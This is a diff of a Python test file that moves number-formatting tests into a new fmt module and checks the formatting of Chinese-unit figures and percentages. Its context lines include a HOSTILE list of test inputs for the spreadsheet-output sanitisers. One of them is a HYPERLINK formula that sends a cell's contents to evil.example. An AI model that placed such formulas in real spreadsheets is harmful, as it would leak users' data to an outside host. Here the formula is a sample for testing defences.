@@ -7,9 +7,9 @@ import io
 import pytest
 from openpyxl import Workbook, load_workbook
 
+from jxtrack.present import fmt
 from jxtrack.present.outputs import clean, neutralise
 from jxtrack.reports.excel import put
-from jxtrack.reports.text import num, pp
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
@@ -76,19 +76,25 @@ def test_clean_removes_what_xml_cannot_hold():
 
 
 def test_number_formats():
-    assert num(1300, "个") == "1,300"
-    assert num(356.3, "个") == "356.3"
-    assert num(219.789, "万元/亩") == "219.79"
-    assert num(500.0, "亿元") == "500"
-    assert num(None, "个") == "—"
-    assert pp(3.44) == "+3.4" and pp(-10.45) == "-10.4" or pp(-10.45) == "-10.5"
-    assert pp(0.04) == "0.0"
+    assert fmt.printed(1300, "个") == "1,300"
+    assert fmt.printed(356.3, "个") == "356.3"
+    assert fmt.printed(219.789, "万元/亩") == "219.79"
+    assert fmt.printed(500.0, "亿元") == "500"
+    assert fmt.printed(None, "个") == "—"
+    assert fmt.pp(3.44, with_unit=False) == "+3.4"
+    assert fmt.pp(-10.45, with_unit=False) in ("-10.4", "-10.5")   # binary 10.45 rounds either way
+    assert fmt.pp(0.04, with_unit=False) == "0.0"
+    # running text: no thousands separator, two decimals trimmed
+    assert fmt.in_prose(1300, "个") == "1300" and fmt.in_prose(219.789, "万元/亩") == "219.79"
+    assert fmt.in_prose(80.5, "%") == "80.5" and fmt.in_prose(None, "个") == "—"
+    # a share rounding to zero prints without a sign, on paper as on screen
+    assert fmt.pct(-0.0001) == "0.0%" and fmt.pct(0.8667) == "86.7%"
 
 
 def test_light_rule_words_come_from_the_thresholds():
     import pandas as pd
 
-    from jxtrack.reports.text import light_rules
+    from jxtrack.domain.lights import rules as light_rules
 
     ind = pd.DataFrame({"short_name": ["甲", "乙", "丙"], "green_min_pp": [0, 0, 0],
                         "yellow_min_pp": [-10, -10, -5]})
